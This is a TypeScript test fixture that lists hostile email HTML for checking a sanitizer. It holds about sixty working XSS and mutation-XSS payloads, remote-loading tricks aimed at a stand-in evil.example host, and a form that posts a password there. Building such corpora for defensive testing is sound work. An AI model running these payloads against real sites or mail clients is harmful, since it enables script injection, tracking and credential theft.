/**
 * Hostile email HTML for the sanitizer's tests (jsdom) and the browser check (e2e/thread-page): every
 * payload that could run sets the canary `__xss`, and every remote address points at `*.evil.example`, so
 * a request that leaves the page is seen. Drawn from the classic filter-evasion and mutation-XSS lists
 * (OWASP cheat sheet, PortSwigger's XSS cheat sheet, DOMPurify's own bypass history).
 */
export interface XssPayload {
  name: string;
  html: string;
}

const RUN = 'top.__xss=1;parent.__xss=1;window.__xss=1';
export const REMOTE_HOST = 'evil.example';
const remote = (path: string) => `https://img.${REMOTE_HOST}/${path}`;

export const xssCorpus: readonly XssPayload[] = [
  { name: 'script tag', html: `<p>hi</p><script>${RUN}</script>` },
  { name: 'script with src', html: `<script src="${remote('x.js')}"></script>` },
  { name: 'img onerror', html: `<img src=x onerror="${RUN}">` },
  { name: 'body onload', html: `<body onload="${RUN}"><p>x</p></body>` },
  { name: 'svg onload', html: `<svg onload="${RUN}"><circle r="4"/></svg>` },
  { name: 'svg script', html: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg animate href', html: `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">click</text></a></svg>` },
  { name: 'svg use external', html: `<svg><use href="${remote('sprite.svg#x')}"/></svg>` },
  { name: 'svg image remote', html: `<svg><image href="${remote('svg-image.png')}"/></svg>` },
  { name: 'mathml href', html: `<math><mi xlink:href="javascript:${RUN}">x</mi></math>` },
  { name: 'mathml mglyph style mXSS', html: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">` },
  { name: 'form/math namespace confusion mXSS', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">` },
  { name: 'svg p style mXSS', html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
  { name: 'noscript title mXSS', html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` },
  { name: 'noembed mXSS', html: `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>` },
  { name: 'template script', html: `<template><script>${RUN}</script><img src=x onerror="${RUN}"></template>` },
  { name: 'details ontoggle', html: `<details open ontoggle="${RUN}"><summary>x</summary></details>` },
  { name: 'javascript: link', html: `<a href="javascript:${RUN}">click</a>` },
  { name: 'obfuscated javascript: link', html: `<a href=" jav&#x09;ascr&#x0A;ipt&colon;${RUN}">click</a>` },
  { name: 'entity-encoded javascript: link', html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">click</a>` },
  { name: 'data: html link', html: `<a href="data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==">click</a>` },
  { name: 'vbscript link', html: `<a href="vbscript:msgbox(1)">click</a>` },
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>${RUN}</script>"></iframe>` },
  { name: 'iframe javascript src', html: `<iframe src="javascript:${RUN}"></iframe>` },
  { name: 'object data', html: `<object data="data:text/html,<script>${RUN}</script>"></object>` },
  { name: 'embed src', html: `<embed src="${remote('x.swf')}">` },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}"><p>x</p>` },
  { name: 'meta refresh remote', html: `<meta http-equiv="refresh" content="0;url=${remote('phish')}">` },
  { name: 'base href', html: `<base href="${remote('')}"><a href="/login">log in</a><img src="/pixel.gif">` },
  { name: 'form action', html: `<form action="${remote('steal')}"><input name="password"><button>Go</button></form>` },
  { name: 'button formaction', html: `<button formaction="javascript:${RUN}">x</button>` },
  { name: 'input image', html: `<input type="image" src="${remote('input.png')}">` },
  { name: 'img srcset', html: `<img srcset="${remote('srcset-1x.png')} 1x, ${remote('srcset-2x.png')} 2x" alt="a">` },
  { name: 'picture source', html: `<picture><source srcset="${remote('picture.png')}"><img alt="b"></picture>` },
  { name: 'remote tracking pixel', html: `<img src="${remote('pixel.gif?u=1')}" width="1" height="1" alt="">` },
  { name: 'protocol-relative image', html: `<img src="//cdn.${REMOTE_HOST}/logo.png" alt="logo">` },
  { name: 'table background', html: `<table background="${remote('bg.png')}"><tr><td background="${remote('td.png')}">x</td></tr></table>` },
  { name: 'video poster', html: `<video poster="${remote('poster.png')}" src="${remote('v.mp4')}"></video>` },
  { name: 'audio src', html: `<audio src="${remote('a.mp3')}" autoplay></audio>` },
  { name: 'link stylesheet', html: `<link rel="stylesheet" href="${remote('x.css')}">` },
  { name: 'style @import', html: `<style>@import url("${remote('import.css')}"); @import '${remote('import2.css')}';</style><p>x</p>` },
  { name: 'style url() background', html: `<style>body{background:url(${remote('body-bg.png')})}</style><p>x</p>` },
  { name: 'inline style url()', html: `<div style="background-image:url('${remote('inline-bg.png')}')">x</div>` },
  { name: 'escaped url() in style', html: `<div style="background:\\75\\72\\6c(${remote('escaped.png')})">x</div>` },
  { name: 'comment-split url() in style', html: `<div style="background:u/**/rl(${remote('split.png')})">x</div>` },
  { name: 'image-set in style', html: `<div style="background-image:image-set('${remote('set.png')}' 1x)">x</div>` },
  { name: 'css expression', html: `<div style="width:expression(${RUN})">x</div>` },
  { name: 'css behavior and binding', html: `<div style="behavior:url(x.htc);-moz-binding:url(${remote('x.xml#xss')})">x</div>` },
  { name: 'position overlay', html: `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Your session expired — log in</div>` },
  { name: 'escaped position overlay', html: `<div style="posi\\74ion:absolute;top:0">x</div>` },
  { name: 'style element overlay', html: `<style>.o{position:fixed;inset:0}</style><div class="o">x</div>` },
  { name: 'style breakout with escaped <', html: `<style>p{color:red}\\3c/style\\3e\\3cimg src=x onerror=${RUN}\\3e</style><p>x</p>` },
  { name: 'font-face remote', html: `<style>@font-face{font-family:x;src:url(${remote('f.woff')})}</style><p style="font-family:x">x</p>` },
  { name: 'a ping', html: `<a href="https://ok.example/" ping="${remote('ping')}">link</a>` },
  { name: 'target _self override', html: `<a href="https://ok.example/" target="_top">link</a>` },
  { name: 'DOM clobbering form', html: `<img name="getElementById"><form id="document"></form>` },
  { name: 'autofocus onfocus', html: `<input autofocus onfocus="${RUN}"><div tabindex="1" autofocus onfocus="${RUN}">x</div>` },
  { name: 'marquee onstart', html: `<marquee onstart="${RUN}">x</marquee>` },
  { name: 'srcdoc-like attribute on div', html: `<div data-x="1" onclick="${RUN}" formaction="javascript:${RUN}">x</div>` },
  { name: 'xlink on anchor', html: `<a xlink:href="javascript:${RUN}">x</a>` },
  { name: 'cid image', html: `<img src="cid:part1@evil" alt="inline">` },
  { name: 'svg data image', html: `<img src="data:image/svg+xml,<svg onload='${RUN}'/>" alt="svg">` },
];
